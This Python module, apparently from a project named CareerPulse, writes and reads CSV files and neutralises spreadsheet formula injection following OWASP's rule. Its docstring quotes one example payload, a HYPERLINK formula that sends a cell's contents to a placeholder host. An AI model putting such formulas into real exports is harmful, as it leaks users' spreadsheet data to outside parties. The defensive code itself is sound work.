"""CSV cells a spreadsheet would not evaluate: every CSV CareerPulse writes goes through here.

Titles, links and category names come from the API verbatim; opened in a spreadsheet, a cell
such as `=HYPERLINK("https://example.invalid/?x="&A2,"Open posting")` is a live formula. OWASP's
rule ("CSV Injection"): a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
prefixed with a single quote, which spreadsheets show as text and do not evaluate; every cell is
quoted as CSV needs (the csv module's minimal quoting escapes quotes by doubling them). Reading a
file CareerPulse wrote takes exactly one such quote off again (`restore`), so a value written and
read back is the value.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import TextIO

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """`'` + value for a string a spreadsheet would evaluate; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The value `neutralise` was given: one leading quote off before a formula start."""
    if value.startswith("'") and value[1:2] and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def write_rows(handle: TextIO, header: list[str], rows: Iterable[Iterable[object]]) -> None:
    """CSV rows with every cell neutralised (`handle` opened with newline="")."""
    writer = csv.writer(handle)
    writer.writerow([neutralise(name) for name in header])
    writer.writerows([neutralise(cell) for cell in row] for row in rows)


def write_frame(frame: pd.DataFrame, path: Path, index: bool = False) -> None:
    """`frame.to_csv(path, index=index)` with every string cell, column and index label
    neutralised."""
    safe = frame.map(neutralise)
    safe.columns = [neutralise(name) for name in frame.columns]
    if index:
        safe.index = [neutralise(name) for name in frame.index]
        safe.index.name = neutralise(frame.index.name)
    safe.to_csv(path, index=index)


def read_frame(path: str | Path, index: bool = False) -> pd.DataFrame:
    """A frame `write_frame` wrote, with its strings restored."""
    frame = pd.read_csv(path, index_col=0 if index else None)
    restored = frame.map(lambda value: restore(value) if isinstance(value, str) else value)
    restored.columns = [restore(str(name)) for name in frame.columns]
    if index:
        restored.index = [restore(name) if isinstance(name, str) else name
                          for name in frame.index]
        restored.index.name = frame.index.name and restore(frame.index.name)
    return restored
